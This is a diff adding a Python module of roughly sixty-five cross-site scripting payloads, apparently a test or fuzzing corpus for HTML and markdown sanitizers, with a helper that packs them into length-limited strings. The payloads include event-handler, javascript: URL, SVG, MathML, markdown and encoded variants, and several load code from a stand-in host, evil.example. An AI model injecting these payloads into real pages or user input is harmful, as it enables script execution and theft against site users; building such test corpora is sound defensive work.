@@ -1,0 +1,80 @@
+"""What people write who want to run a script in others' pages."""
+
+SCRIPTS = (
+    "<script>xss()</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<script\n>xss()</script\n>",
+    "<<script>xss();//<</script>",
+    "</title><script>xss()</script>",
+    "</textarea><script>xss()</script>",
+    "</script><script>xss()</script>",
+    "--><script>xss()</script>",
+    "]]><script>xss()</script>",
+    '"><script>xss()</script>',
+    "'><script>xss()</script>",
+    "<img src=x onerror=xss()>",
+    "<img/src=x/onerror=xss()>",
+    "<img src=x:x onerror\n=xss()>",
+    '<img """><script>xss()</script>">',
+    "<image src=x onerror=xss()>",
+    "<svg onload=xss()>",
+    "<svg><script>xss()</script></svg>",
+    '<svg><a xlink:href="javascript:xss()"><text>x</text></a></svg>',
+    '<svg><use href="data:image/svg+xml,<svg id=x onload=xss()>#x"></use></svg>',
+    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=xss()>",
+    "<math href=javascript:xss()>x</math>",
+    "<iframe src=javascript:xss()></iframe>",
+    '<iframe srcdoc="<script>xss()</script>"></iframe>',
+    "<object data=javascript:xss()></object>",
+    "<embed src=javascript:xss()>",
+    "<base href=//evil.example/>",
+    '<meta http-equiv=refresh content="0;url=javascript:xss()">',
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import'//evil.example/x.css';</style>",
+    "<body onload=xss()>",
+    "<details open ontoggle=xss()>",
+    "<video><source onerror=xss()></video>",
+    "<audio src onloadstart=xss()>",
+    "<input autofocus onfocus=xss()>",
+    "<select autofocus onfocus=xss()></select>",
+    "<marquee onstart=xss()>x</marquee>",
+    "<form action=javascript:xss()><button>x</button></form>",
+    "<button formaction=javascript:xss() form=f>x</button>",
+    "<a href=javascript:xss()>x</a>",
+    '<a href="java\tscript:xss()">x</a>',
+    "<a href=&#106;avascript:xss()>x</a>",
+    "<div style=background:url(javascript:xss())>x</div>",
+    '" onmouseover="xss()" x="',
+    "' onmouseover='xss()' x='",
+    "` onmouseover=`xss()`",
+    "x onfocus=xss() autofocus",
+    "javascript:xss()",
+    "[x](javascript:xss())",
+    "[x](JaVaScRiPt&colon;xss())",
+    "[x](&#x6A;avascript:xss())",
+    "[x](data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==)",
+    "[x](vbscript:xss())",
+    "![x](javascript:xss())",
+    '![x" onerror="xss()](https://a.example/x.png)',
+    '[x](https://a.example/ "t\\" onclick=\\"xss()")',
+    '<https://a.example/"onclick="xss()>',
+    '```x" onclick="xss()\n1\n```',
+    "> **Note** <svg onload=xss()>",
+    "{{7*7}}{% raw %}${7*7}<%= 7*7 %>#{7*7}",
+    "%3Cscript%3Exss()%3C/script%3E",
+    "&lt;script&gt;xss()&lt;/script&gt;",
+    "\u2028<script>xss()</script>\u2029",
+    "＜script＞xss()＜/script＞",
+)
+
+
+def bundled(most: int) -> list[str]:
+    """All of them, as many in one text as `most` characters hold, since each page costs time."""
+    found = [SCRIPTS[0]]
+    for script in SCRIPTS[1:]:
+        if len(found[-1]) + 1 + len(script) <= most:
+            found[-1] += f" {script}"
+        else:
+            found.append(script)
+    return found
